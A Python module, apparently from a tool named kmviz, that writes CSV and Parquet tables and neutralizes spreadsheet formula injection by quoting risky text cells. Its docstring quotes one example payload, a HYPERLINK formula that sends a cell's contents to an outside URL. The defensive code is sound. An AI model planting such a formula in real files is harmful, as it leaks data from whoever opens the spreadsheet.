"""Tables written for people to open: CSV and Parquet, safe to open in a spreadsheet.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken
as a formula by Excel, LibreOffice and Google Sheets (CSV injection): an item named
``=HYPERLINK("http://...?d="&A2,"Click")`` would run when the analyst opens the export.
:func:`neutralize_formulas` prefixes such cells with a single quote, the mark spreadsheets
read as "this is text" and display without it. Numbers are left alone (a negative number is
a number, not a formula); only text cells change.

Every table kmviz writes for a person (the Implications download, ``kmviz implications``,
trace CSVs) goes through :func:`table_bytes` or :func:`write_table`.
"""

from __future__ import annotations

import io
import os
from pathlib import Path

import pandas as pd

__all__ = ["FORMULA_LEADS", "neutralize_formulas", "neutralize_text", "table_bytes",
           "table_format", "write_table"]

#: First characters that make a spreadsheet evaluate a cell.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")

_FORMATS = {".csv": "csv", ".parquet": "parquet", ".pq": "parquet"}


def neutralize_text(value):
    """``value`` with a leading ``'`` when it is text that a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def neutralize_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names cannot run as formulas.

    Only object and string columns are touched; numeric, boolean and datetime columns are
    returned as they are (a negative number is not a formula)."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            out[col] = s.map(neutralize_text)
    out.columns = [neutralize_text(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def table_format(path) -> str:
    """``"csv"`` or ``"parquet"`` from a file name's suffix; ValueError naming the choices."""
    suffix = Path(str(path)).suffix.lower()
    if suffix not in _FORMATS:
        raise ValueError(f"{path}: cannot tell the table format from the suffix "
                         f"{suffix or '(none)'!r}; name the file .csv or .parquet.")
    return _FORMATS[suffix]


def table_bytes(df: pd.DataFrame, fmt: str = "csv") -> bytes:
    """The whole table as ``fmt`` (``"csv"`` or ``"parquet"``), formulas neutralized.

    Parquet keeps the column types; text cells are neutralized there too, since a Parquet
    file is often converted to a spreadsheet on the way to a reader."""
    safe = neutralize_formulas(df)
    if fmt == "csv":
        return safe.to_csv(index=False).encode("utf-8")
    if fmt == "parquet":
        try:
            import pyarrow  # noqa: F401
        except ImportError as exc:  # pragma: no cover - pyarrow ships with the dask extra
            raise ValueError("Writing Parquet needs pyarrow: pip install 'kmviz[dask]' "
                             "(or pyarrow), or write a .csv file instead.") from exc
        buf = io.BytesIO()
        safe.to_parquet(buf, index=False)
        return buf.getvalue()
    raise ValueError(f"unknown table format {fmt!r}; use 'csv' or 'parquet'.")


def write_table(df: pd.DataFrame, path) -> Path:
    """Write ``df`` to ``path`` (CSV or Parquet by the suffix), atomically: a temporary file
    beside it, then a rename, so a killed writer never leaves half a table under the name.
    The file is readable by its owner only when it lands in a directory that is (the
    process's umask decides otherwise)."""
    path = Path(path)
    data = table_bytes(df, table_format(path))
    tmp = path.with_name(f".{path.name}.tmp-{os.getpid()}")
    try:
        with open(tmp, "wb") as fh:
            fh.write(data)
        os.replace(tmp, path)
    finally:
        if tmp.exists():
            tmp.unlink()
    return path
